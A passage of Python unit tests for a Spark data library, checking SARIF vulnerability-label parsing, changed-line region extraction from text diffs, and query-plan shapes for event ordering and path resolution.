    assert [r.t for r in rows] == [True, True, False, True, False, True, True, True, True, None]
    assert [r.d for r in rows][5:] == ["é\t\x1b", "hi\ufffd", "hö", "ab", None]
    bad = {"runs": [{"properties": {"state": "BAD", "id": 7, "version": "2"}, "results": [{"ruleId": "CWE-89"}], "artifacts": [{"location": {"uri": "a.php"}}]}]}
    good = {"runs": [{"properties": {"state": "good", "description": "an XSS"}, "artifacts": []}]}
    manifests = spark.createDataFrame([("t/1/m.sarif", json.dumps(bad)), ("t/2/m.sarif", json.dumps(good)), ("t/3/m.sarif", "{"), ("t/4/m.sarif", None), ("t/5/m.sarif", json.dumps(bad)), ("m.sarif", '{"runs": []}')], "path string, text string")
    files = spark.createDataFrame([("t/1/a.php", "one"), ("t/2/src/sample.php", "two"), ("t/5/a.php", ""), ("t/4/src/sample.php", "four")], "path string, text string")
    got = {tuple(r) for r in payloads.read_reports(manifests, files).collect()}
    assert got == {("7", "t/1/a.php", "one", "vulnerable", "CWE-89", "CWE-89", "2", ""), ("2", "t/2/src/sample.php", "two", "benign", "", "XSS", "1.0.0", "")}


def test_changed_regions(spark):
    from quillspark.operators import patches

    pairs = [(1, "a\nb\nc", "a\nx\ny\nc"), (2, "a\nb", "a\nb"), (3, None, "n"), (4, "a\nb\nc", "a\nc"), (5, "a\nb", "a\nn\nb"), (6, "", None)]
    rows = patches.changed_regions(spark.createDataFrame(pairs, "id long, old string, new string"), "id", "old", "new").collect()
    assert {(r.id, r.start_line, r.end_line, tuple(r.added)) for r in rows} == {(1, 2, 2, ("x", "y")), (3, 1, 1, ("n",)), (4, 2, 2, ()), (5, 2, 2, ("n",))}


def test_evidence_order_from_one_pass(spark, tmp_path):
    """Null times are one line, null types count as rules where nothing else is there, as in the SQL; no side is joined with the other."""
    from quillspark.plans.selection import QUERIES

    rows = [(1, 1, None, "view"), (2, 1, None, "click"), (3, 1, 5, None), (4, 1, 6, "view"), (5, 1, 6, None), (6, 2, 9, "click"), (7, 2, 9, "view"), (8, 2, 9, "view")]
    df = spark.createDataFrame(rows, "event_id long, user_id long, t long, event_type string")
    df.select("event_id", "user_id", F.timestamp_seconds("t").alias("ts"), "event_type").write.parquet(f"{tmp_path}/events.parquet")
    found = QUERIES["evidence_order"](spark, str(tmp_path))
    assert "Join" not in found._jdf.queryExecution().executedPlan().toString()
    got = sorted((r.user_id, r.place, r.line, r.basis) for r in found.collect())
    assert got == [(1, 1, None, "ai_and_rule"), (1, 2, 6, "ai_only"), (1, 3, 5, "rule_only"), (2, 1, 9, "ai_and_rule")]


def test_endings_are_dealt_before_they_are_counted(spark):
    df = spark.createDataFrame([("p", "a/b/x.py"), ("p", "c/x.py"), ("p", "c/y.py")], "project string, path string")
    want = spark.createDataFrame([("p", "c/x.py"), ("p", "x.py"), ("p", "b/x.py"), ("p", "y")], "project string, target string")
    found = selection.resolve(want, df)
    assert found._jdf.queryExecution().executedPlan().toString().count("REPARTITION_BY_COL") >= 2
    assert {(r.target, r.file) for r in found.collect()} == {("c/x.py", "c/x.py"), ("x.py", None), ("b/x.py", "a/b/x.py"), ("y", "c/y.py")}


def test_regions_are_handed_on_in_parts(spark, monkeypatch):
    from quillspark.operators import patches

    monkeypatch.setattr(patches, "SENT_ROWS", 3)
    df = spark.createDataFrame([(str(k), f"a\nb{k}\nc", f"a\nx{k}\nc\nd") for k in range(10)] + [("n", None, "y"), ("s", "y", "y")], "id string, old string, new string").coalesce(1)
    found = patches.changed_regions(df, "id", "old", "new")
    assert "MapInArrow" in found._jdf.queryExecution().executedPlan().toString()
    want = {(str(k), 2, 2, (f"x{k}",)) for k in range(10)} | {(str(k), 4, 4, ("d",)) for k in range(10)} | {("n", 1, 1, ("y",))}
    rows = found.collect()
    assert len(rows) == len(want) and {(r.id, r.start_line, r.end_line, tuple(r.added)) for r in rows} == want
